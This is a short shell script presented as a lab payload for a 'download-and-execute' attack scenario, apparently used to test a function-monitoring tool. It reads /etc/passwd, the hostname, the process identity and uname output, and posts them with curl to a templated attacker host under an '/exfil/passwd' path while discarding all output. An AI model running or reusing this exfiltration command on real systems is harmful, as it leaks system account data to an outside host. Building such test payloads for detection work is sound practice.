#!/bin/sh
# faasmon lab payload for attack 1 (download-and-execute). Harmless: it
# only reads /etc/passwd and the process identity and posts them to the
# lab's attacker host, the one address it talks to.
A="http://{{attacker}}"
{
  echo "payload=attack1 host=$(hostname) uid=$(id -u) pid=$$"
  uname -a
  cat /etc/passwd
} | curl -s -m 5 --data-binary @- "$A/exfil/passwd" >/dev/null 2>&1
exit 0
